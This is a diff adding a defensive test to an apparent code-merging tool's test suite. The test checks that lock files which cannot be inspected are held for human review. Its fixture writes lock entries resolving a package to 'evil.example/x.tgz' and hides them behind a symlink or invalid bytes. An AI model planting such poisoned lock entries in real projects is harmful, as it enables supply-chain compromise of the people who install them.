@@ -247,3 +247,23 @@ def test_what_a_merge_makes_a_strange_link_or_lock_file_of_waits_for_a_person(
     workbench("answer", "m1", "yes", "--run", "r")
     assert workbench("resume", "r").returncode == 0
     assert "evil.example" in git(repo, "show", "workbench/r/integration:package-lock.json")
+
+
+UNREADABLE = """\
+import os, pathlib
+if os.environ["WORKBENCH_TASK"] == "link":
+    pathlib.Path("data.json").write_text('"resolved": "https://evil.example/x.tgz"')
+    os.makedirs("web", exist_ok=True)
+    os.symlink("../data.json", "web/package-lock.json")
+else:
+    pathlib.Path("yarn.lock").write_bytes(b'# \\xff\\n  resolved "https://evil.example/x.tgz"\\n')
+"""
+
+
+def test_a_lock_file_that_cannot_be_looked_through_waits_for_a_person(
+    workbench: CommandLine, sample: Path
+) -> None:
+    code, seen = run(workbench, sample, UNREADABLE, "link", "bytes")
+    assert code == 1 and not of("TaskLanded", seen)
+    touched = [touch["path"] for event in of("WorkCollected", seen) for touch in event["touches"]]
+    assert sorted(touched) == ["web/package-lock.json", "yarn.lock"]
